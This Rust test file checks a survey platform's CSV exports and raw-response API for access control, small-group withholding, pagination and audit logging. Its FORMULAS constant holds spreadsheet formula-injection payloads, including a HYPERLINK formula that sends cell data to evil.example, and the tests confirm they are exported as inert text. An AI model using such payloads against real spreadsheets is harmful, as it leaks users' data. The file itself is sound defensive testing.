//! CSV exports: raw answers for the county's lead only, aggregates for whoever may read them,
//! both streamed; no response id and no small group on the way out.

use orb_tests::{TestApp, spawn_app};
use reqwest::StatusCode;
use serde_json::json;

/// A released demo wave of `county` by title.
async fn demo_wave(app: &TestApp, county: &str, title: &str) -> String {
    let lead = app.sign_in(&format!("lead@{county}.demo.orb")).await;
    let listed = lead
        .graphql("query($c: String!) { administrations(countySlug: $c) { id title } }", json!({ "c": county }))
        .await;
    let waves = listed.ok()["administrations"].as_array().cloned().unwrap_or_default();
    let wave = waves.iter().find(|w| w["title"] == title).expect("the demo's wave");
    wave["id"].as_str().expect("id").to_owned()
}

/// The demo's released Kings wave (45 responses).
async fn kings_wave(app: &TestApp) -> String {
    demo_wave(app, "kings", "ORB readiness wave 1 (2017)").await
}

async fn export(app: &TestApp, who: Option<&str>, path: &str) -> (StatusCode, String) {
    let mut request = app.http().get(format!("{}{path}", app.address));
    if let Some(email) = who {
        let caller = app.sign_in(email).await;
        request = request.bearer_auth(caller.access_token.expect("a token"));
    }
    let response = request.send().await.expect("answers");
    (response.status(), response.text().await.expect("a body"))
}

#[tokio::test]
async fn the_lead_exports_every_answer_tidy_with_no_response_id() {
    let app = spawn_app().await;
    // 130 responses: the export streams them in more than one page.
    let id = demo_wave(&app, "sacramento", "ORB readiness wave 2 (2018)").await;
    let before = app.count("audit_log WHERE action = 'export.raw'").await;
    let (status, csv) =
        export(&app, Some("lead@sacramento.demo.orb"), &format!("/exports/administrations/{id}/responses.csv")).await;
    assert_eq!(status, StatusCode::OK);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some(
            "respondent,perspective,org_unit_id,language,submitted_on,domain,item,concept,kind,answer,scored,score_0_100"
        )
    );
    let rows: Vec<&str> = lines.collect();
    let answers = app
        .count(&format!(
            "responses r, jsonb_each(r.answers) a WHERE r.administration_id = '{id}' AND r.status = 'submitted'"
        ))
        .await;
    assert_eq!(rows.len() as i64, answers, "one row per stored answer, across pages");
    let respondents: std::collections::BTreeSet<&str> = rows.iter().filter_map(|r| r.split(',').next()).collect();
    assert_eq!(respondents.len(), 130, "every respondent, numbered for the export");
    let ids = app
        .db
        .scalar_text(&format!("SELECT string_agg(id::text, ',') FROM responses WHERE administration_id = '{id}'"))
        .await;
    assert!(ids.split(',').all(|response| !csv.contains(response)), "no response id leaves the service");
    assert!(
        rows.iter().any(|r| r.contains("FIT4") && r.contains("LIKERT")),
        "reverse-scored items are exported with their scored value"
    );
    assert_eq!(app.count("audit_log WHERE action = 'export.raw'").await, before + 1, "a raw export is audited");

    let (status, dictionary) =
        export(&app, Some("lead@sacramento.demo.orb"), &format!("/exports/administrations/{id}/dictionary.csv")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(dictionary.starts_with("item,domain,kind,concept,reverse_scored,required,scale,prompt"));
    assert!(dictionary.contains("FIT1,FIT,LIKERT,"), "{dictionary}");
}

#[tokio::test]
async fn only_the_countys_lead_exports_raw_answers() {
    let app = spawn_app().await;
    let id = kings_wave(&app).await;
    let path = format!("/exports/administrations/{id}/responses.csv");
    let before = app.db.snapshot().await;
    assert_eq!(export(&app, None, &path).await.0, StatusCode::UNAUTHORIZED);
    for (who, expected) in [
        ("staff@kings.demo.orb", StatusCode::FORBIDDEN),
        ("lead@alameda.demo.orb", StatusCode::FORBIDDEN),
        ("faculty@demo.orb", StatusCode::FORBIDDEN),
        ("lead@orange.demo.orb", StatusCode::NOT_FOUND),
        ("admin@demo.orb", StatusCode::NOT_FOUND),
    ] {
        let (status, body) = export(&app, Some(who), &path).await;
        assert_eq!(status, expected, "{who}: {body}");
        assert!(!body.contains("respondent,"), "{who} gets no CSV");
    }
    assert_eq!(app.db.snapshot().await, before, "refused exports record nothing");
    assert_eq!(
        export(&app, Some("lead@kings.demo.orb"), "/exports/administrations/not-an-id/responses.csv").await.0,
        StatusCode::BAD_REQUEST
    );
}

#[tokio::test]
async fn aggregates_export_for_whoever_may_read_them_with_small_groups_withheld() {
    let app = spawn_app().await;
    let id = kings_wave(&app).await;
    let path = format!("/exports/administrations/{id}/results.csv");
    for who in ["lead@kings.demo.orb", "staff@kings.demo.orb", "lead@alameda.demo.orb", "faculty@demo.orb"] {
        let (status, csv) = export(&app, Some(who), &path).await;
        assert_eq!(status, StatusCode::OK, "{who}");
        assert!(csv.starts_with("group_type,group,withheld,level,code,n,mean"));
        assert!(csv.contains("perspective,EXECUTIVE,small_group"), "{who} sees the executives withheld");
        assert!(!csv.contains("perspective,EXECUTIVE,,"), "and no executive figure");
        assert!(csv.contains("all,,,domain,TEAMS,"), "overall domain rows are there");
    }
    assert_eq!(export(&app, Some("lead@orange.demo.orb"), &path).await.0, StatusCode::NOT_FOUND);
}

const RAW: &str = "query($id: ID!, $first: Int, $after: String) { administration(id: $id) {
    responses(first: $first, after: $after) {
        pageInfo { hasNextPage hasPreviousPage endCursor }
        edges { cursor node { respondent perspective orgUnitId language submittedOn answers { item value } } } } } }";

/// Reads one page of raw responses as `caller`.
async fn raw_page(
    caller: &orb_tests::Caller,
    id: &str,
    first: Option<i64>,
    after: Option<&str>,
) -> orb_tests::GraphqlResponse {
    caller.graphql(RAW, json!({ "id": id, "first": first, "after": after })).await
}

/// A response's answers as the API lists them, back as one JSON object by item code.
fn answers_object(node: &serde_json::Value) -> String {
    let answers: serde_json::Map<String, serde_json::Value> = node["answers"]
        .as_array()
        .expect("answers")
        .iter()
        .map(|a| (a["item"].as_str().expect("item").to_owned(), a["value"].clone()))
        .collect();
    serde_json::Value::Object(answers).to_string()
}

#[tokio::test]
async fn the_lead_pages_through_every_submitted_response_in_the_api() {
    let app = spawn_app().await;
    let id = demo_wave(&app, "sacramento", "ORB readiness wave 2 (2018)").await;
    let lead = app.sign_in("lead@sacramento.demo.orb").await;
    let before = app.count("audit_log WHERE action = 'export.raw'").await;
    let (mut nodes, mut after, mut pages) = (Vec::new(), None::<String>, 0);
    loop {
        let page = raw_page(&lead, &id, Some(50), after.as_deref()).await;
        let connection = page.ok()["administration"]["responses"].clone();
        pages += 1;
        assert_eq!(connection["pageInfo"]["hasPreviousPage"], after.is_some());
        let edges = connection["edges"].as_array().expect("edges").clone();
        assert!(edges.len() <= 50, "a page holds at most `first` responses");
        nodes.extend(edges.iter().map(|e| e["node"].clone()));
        if connection["pageInfo"]["hasNextPage"] != true {
            break;
        }
        after = connection["pageInfo"]["endCursor"].as_str().map(str::to_owned);
    }
    assert_eq!(pages, 3, "130 responses in pages of 50");
    let submitted = app.count(&format!("responses WHERE administration_id = '{id}' AND status = 'submitted'")).await;
    assert_eq!(nodes.len() as i64, submitted, "every submitted response, across pages");
    let numbers: Vec<u64> = nodes.iter().map(|n| n["respondent"].as_u64().expect("respondent")).collect();
    assert_eq!(numbers, (1..=130).collect::<Vec<_>>(), "numbered once each, no duplicates, none skipped");

    let mut listed: Vec<String> = nodes.iter().map(answers_object).collect();
    let mut stored: Vec<String> = app
        .db
        .scalar_text(&format!(
            "SELECT string_agg(answers::text, E'\\n') FROM responses WHERE administration_id = '{id}' AND status = 'submitted'"
        ))
        .await
        .lines()
        .map(|a| serde_json::from_str::<serde_json::Value>(a).expect("stored answers").to_string())
        .collect();
    listed.sort();
    stored.sort();
    assert_eq!(listed, stored, "each response's answers exactly as stored");
    let first = &nodes[0];
    assert!(first["submittedOn"].is_string());
    assert!(
        nodes.iter().any(|n| n["language"].is_string() && n["perspective"].is_string()),
        "rows carry their perspective and language where no small group is named by them"
    );
    // Answers come in the version's item order; a respondent who skipped an item simply has no
    // entry for it (the demo skips one Likert answer in twenty).
    let version: serde_json::Value =
        serde_json::from_str(include_str!("../../instruments/state-orb-readiness.json")).expect("the state instrument");
    let order: Vec<&str> =
        version["items"].as_array().expect("items").iter().filter_map(|i| i["code"].as_str()).collect();
    for node in &nodes {
        let positions: Vec<usize> = node["answers"]
            .as_array()
            .expect("answers")
            .iter()
            .map(|a| order.iter().position(|code| a["item"] == *code).expect("an item of the state instrument"))
            .collect();
        assert!(positions.windows(2).all(|w| w[0] < w[1]), "answers in the version's item order: {node}");
    }
    assert!(
        nodes.iter().filter(|n| n["answers"][0]["item"] == "FIT1").count() > 100,
        "most respondents answered the first item, and it comes first"
    );

    let body = raw_page(&lead, &id, Some(100), None).await.body.to_string();
    let ids = app
        .db
        .scalar_text(&format!("SELECT string_agg(id::text, ',') FROM responses WHERE administration_id = '{id}'"))
        .await;
    assert!(ids.split(',').all(|response| !body.contains(response)), "no response id leaves the service");
    assert_eq!(
        app.count("audit_log WHERE action = 'export.raw' AND details->>'via' = 'api'").await,
        before + pages + 1,
        "every page read is audited"
    );

    let second = raw_page(&lead, &id, Some(50), None).await;
    let cursor =
        second.ok()["administration"]["responses"]["pageInfo"]["endCursor"].as_str().expect("cursor").to_owned();
    let again = raw_page(&lead, &id, Some(1), Some(&cursor)).await;
    assert_eq!(
        again.ok()["administration"]["responses"]["edges"][0]["node"]["respondent"],
        51,
        "a cursor resumes after it"
    );
}

#[tokio::test]
async fn only_the_countys_lead_reads_raw_responses_in_the_api() {
    let app = spawn_app().await;
    let id = kings_wave(&app).await;
    let before = app.db.snapshot().await;
    for (who, code) in [
        ("staff@kings.demo.orb", "FORBIDDEN"),
        ("lead@alameda.demo.orb", "FORBIDDEN"),
        ("faculty@demo.orb", "FORBIDDEN"),
        ("lead@orange.demo.orb", "NOT_FOUND"),
        ("admin@demo.orb", "NOT_FOUND"),
    ] {
        let caller = app.sign_in(who).await;
        let page = raw_page(&caller, &id, Some(10), None).await;
        page.expect_code(code);
        assert!(page.data()["administration"]["responses"].is_null(), "{who} reads no response: {}", page.body);
    }
    assert_eq!(app.db.snapshot().await, before, "refused reads record nothing");
    let lead = app.sign_in("lead@kings.demo.orb").await;
    let all = raw_page(&lead, &id, Some(100), None).await;
    assert_eq!(all.ok()["administration"]["responses"]["edges"].as_array().map(Vec::len), Some(45));
}

#[tokio::test]
async fn bad_pages_of_raw_responses_are_refused_and_change_nothing() {
    let app = spawn_app().await;
    let id = kings_wave(&app).await;
    let lead = app.sign_in("lead@kings.demo.orb").await;
    let before = app.db.snapshot().await;
    let not_a_position = orb_store::page::encode_cursor("the-last-one");
    for (first, after, field) in [
        (Some(101), None, "first"),
        (Some(0), None, "first"),
        (Some(10), Some("%%%"), "after"),
        (Some(10), Some(not_a_position.as_str()), "after"),
    ] {
        let page = raw_page(&lead, &id, first, after).await;
        page.expect_code("BAD_USER_INPUT");
        assert_eq!(page.problem_fields(), vec![field.to_owned()], "{}", page.body);
    }
    assert_eq!(app.db.snapshot().await, before, "refused reads record nothing");
}

#[tokio::test]
async fn a_position_stays_valid_since_a_wave_read_raw_never_changes() {
    let app = spawn_app().await;
    let (lead, id) = crate::results::paper_wave(&app, "kings", &[(None, "SOCIAL_WORKER", 6, 3)]).await;
    raw_page(&lead, &id, Some(2), None).await.expect_code("CONFLICT");
    lead.graphql("mutation($id: ID!) { closeAdministration(id: $id) { id } }", json!({ "id": id })).await.ok();
    let first = raw_page(&lead, &id, Some(2), None).await;
    let cursor =
        first.ok()["administration"]["responses"]["pageInfo"]["endCursor"].as_str().expect("cursor").to_owned();
    let next = raw_page(&lead, &id, Some(2), Some(&cursor)).await;
    assert_eq!(next.ok()["administration"]["responses"]["edges"][0]["node"]["respondent"], 3);
    // No response can arrive between pages: a wave whose raw rows were read never reopens.
    let reopened = lead
        .graphql(
            "mutation($id: ID!, $closesAt: DateTime) { openAdministration(id: $id, closesAt: $closesAt) { status } }",
            json!({ "id": id, "closesAt": (chrono::Utc::now() + chrono::Duration::days(2)).to_rfc3339() }),
        )
        .await;
    reopened.expect_code("CONFLICT");
    let again = raw_page(&lead, &id, Some(2), Some(&cursor)).await;
    assert_eq!(again.ok()["administration"]["responses"], next.ok()["administration"]["responses"], "the same page");
    let tampered = raw_page(&lead, &id, Some(2), Some(&orb_store::page::encode_cursor("2/7"))).await;
    tampered.expect_code("CONFLICT");
    assert_eq!(tampered.error_field().as_deref(), Some("after"));
}

/// A cell a spreadsheet would run as a formula: one starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return, unless it is a plain number.
fn runs_as_formula(cell: &str) -> bool {
    cell.parse::<f64>().is_err() && cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of `csv`, row by row, as a spreadsheet reads it.
fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

/// What respondents on an open link typed into a free-text answer, hoping a lead opens the export
/// in a spreadsheet.
const FORMULAS: [&str; 6] =
    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=2+2"];

#[tokio::test]
async fn free_text_formulas_from_an_open_link_reach_the_raw_export_as_text() {
    let app = spawn_app().await;
    let lead = app.sign_in("lead@kings.demo.orb").await;
    let instruments =
        lead.graphql("{ instruments(owner: { state: true }) { key latestPublished { id } } }", json!({})).await;
    let input = json!({
        "countyId": app.county_id("kings").await,
        "instrumentVersionId": orb_tests::state_instrument_version(instruments.ok()),
        "title": "Formula wave",
        "perspectives": ["SUPERVISOR", "SOCIAL_WORKER"],
        "anonymity": "ANONYMOUS",
        "minGroupSize": 5,
        "opensAt": (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339(),
        "closesAt": (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339(),
    });
    let (id, _) = lead.open_wave_with_codes(input, 1).await;
    let link = lead
        .graphql("mutation($id: ID!) { enableOpenLink(administrationId: $id) { code } }", json!({ "id": id }))
        .await;
    let code = link.ok()["enableOpenLink"]["code"].as_str().expect("the open link's code").to_owned();
    for (n, formula) in FORMULAS.iter().enumerate() {
        let started = app
            .anonymous()
            .graphql("mutation($code: String!) { startResponse(code: $code) { token } }", json!({ "code": code }))
            .await;
        let respondent = app.with_token(started.ok()["startResponse"]["token"].as_str().expect("a respondent token"));
        let submitted = respondent
            .graphql(
                "mutation($input: AnswersInput!, $key: String!) { submitResponse(input: $input, idempotencyKey: $key) { status } }",
                json!({ "input": { "answers": { "FIT1": 4, "FIT_HELP": formula }, "perspective": "SOCIAL_WORKER" }, "key": format!("formula-{n}") }),
            )
            .await;
        assert_eq!(submitted.ok()["submitResponse"]["status"], "SUBMITTED");
    }
    lead.graphql("mutation($id: ID!) { closeAdministration(id: $id) { status } }", json!({ "id": id })).await.ok();

    let (status, csv) =
        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/responses.csv")).await;
    assert_eq!(status, StatusCode::OK, "{csv}");
    let rows = cells(&csv);
    let answer = rows[0].iter().position(|c| c == "answer").expect("an answer column");
    let item = rows[0].iter().position(|c| c == "item").expect("an item column");
    let mut texts: Vec<&str> = rows.iter().filter(|r| r[item] == "FIT_HELP").map(|r| r[answer].as_str()).collect();
    texts.sort_unstable();
    let mut expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{}", f.trim_start())).collect();
    expected.sort();
    assert_eq!(texts, expected, "each free-text formula is written as text, its trimmed tab or CR included");
    for row in &rows {
        assert!(row.iter().all(|cell| !runs_as_formula(cell)), "no cell a spreadsheet runs: {row:?}");
    }
    assert!(rows.iter().any(|r| r[item] == "FIT1" && r[answer] == "4"), "a Likert answer stays a number");
}

#[tokio::test]
async fn a_drafted_prompt_and_a_negative_number_reach_the_dictionary_and_export_safely() {
    let app = spawn_app().await;
    let lead = app.sign_in("lead@kings.demo.orb").await;
    let instruments =
        lead.graphql("{ instruments(owner: { state: true }) { key latestPublished { id } } }", json!({})).await;
    let state = orb_tests::state_instrument_version(instruments.ok());
    let adapted = lead
        .graphql(
            "mutation($input: AdaptInstrumentInput!) { adaptInstrumentVersion(input: $input) { id } }",
            json!({ "input": { "versionId": state, "countyId": app.county_id("kings").await, "key": "kings-formula", "name": "Kings" } }),
        )
        .await;
    let draft = adapted.ok()["adaptInstrumentVersion"]["id"].as_str().expect("a draft").to_owned();
    let both = |text: &str| json!([{ "language": "en", "text": text }, { "language": "es", "text": text }]);
    lead.graphql(
        "mutation($v: ID!, $input: ItemPatchInput!) { updateInstrumentItem(versionId: $v, code: \"FIT1\", input: $input) { id } }",
        json!({ "v": draft, "input": { "prompt": both(FORMULAS[0]) } }),
    )
    .await
    .ok();
    lead.graphql(
        "mutation($v: ID!, $input: ItemInput!) { addInstrumentItem(versionId: $v, input: $input) { id } }",
        json!({ "v": draft, "input": { "code": "BALANCE", "domain": "FIT", "kind": "NUMBER", "min": -10.0, "max": 10.0, "prompt": both("-2+3 is your balance?") } }),
    )
    .await
    .ok();
    let published = lead
        .graphql("mutation($v: ID!) { publishInstrumentVersion(versionId: $v) { status } }", json!({ "v": draft }))
        .await;
    assert_eq!(published.ok()["publishInstrumentVersion"]["status"], "PUBLISHED");
    let input = json!({
        "countyId": app.county_id("kings").await,
        "instrumentVersionId": draft,
        "title": "Balance wave",
        "perspectives": ["SOCIAL_WORKER"],
        "anonymity": "ANONYMOUS",
        "minGroupSize": 5,
        "opensAt": (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339(),
        "closesAt": (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339(),
    });
    let (id, _) = lead.open_wave_with_codes(input, 1).await;
    let forms: Vec<_> = (0..5)
        .map(|n| json!({ "idempotencyKey": format!("balance-{n}"), "response": { "answers": { "FIT1": 3, "BALANCE": -3, "FIT_HELP": "@SUM(1)" }, "perspective": "SOCIAL_WORKER" } }))
        .collect();
    let stored = crate::results::enter_paper(&lead, &id, &forms).await;
    assert_eq!(stored.ok()["enterPaperForms"]["stored"].as_array().map(Vec::len), Some(5));
    lead.graphql("mutation($id: ID!) { closeAdministration(id: $id) { status } }", json!({ "id": id })).await.ok();

    let (status, dictionary) =
        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/dictionary.csv")).await;
    assert_eq!(status, StatusCode::OK, "{dictionary}");
    let rows = cells(&dictionary);
    let prompt = |code: &str| rows.iter().find(|r| r[0] == code).and_then(|r| r.last().cloned());
    assert_eq!(prompt("FIT1"), Some(format!("'{}", FORMULAS[0])), "the drafted prompt is text");
    assert_eq!(prompt("BALANCE").as_deref(), Some("'-2+3 is your balance?"));
    assert!(rows.iter().flatten().all(|cell| !runs_as_formula(cell)), "{dictionary}");

    let (_, raw) =
        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/responses.csv")).await;
    let rows = cells(&raw);
    let balances: Vec<&str> = rows.iter().filter(|r| r[6] == "BALANCE").map(|r| r[9].as_str()).collect();
    assert_eq!(balances, vec!["-3"; 5], "a negative number answer stays a number");
    assert!(rows.iter().filter(|r| r[6] == "FIT_HELP").all(|r| r[9] == "'@SUM(1)"), "{raw}");
    assert!(rows.iter().flatten().all(|cell| !runs_as_formula(cell)), "{raw}");

    let (_, results) =
        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/results.csv")).await;
    let rows = cells(&results);
    assert!(rows.len() > 1, "{results}");
    assert!(rows.iter().flatten().all(|cell| !runs_as_formula(cell)), "{results}");
    assert!(
        rows.iter().skip(1).all(|r| r.get(5).is_none_or(|n| n.is_empty() || n.parse::<f64>().is_ok())),
        "n stays a number"
    );
}
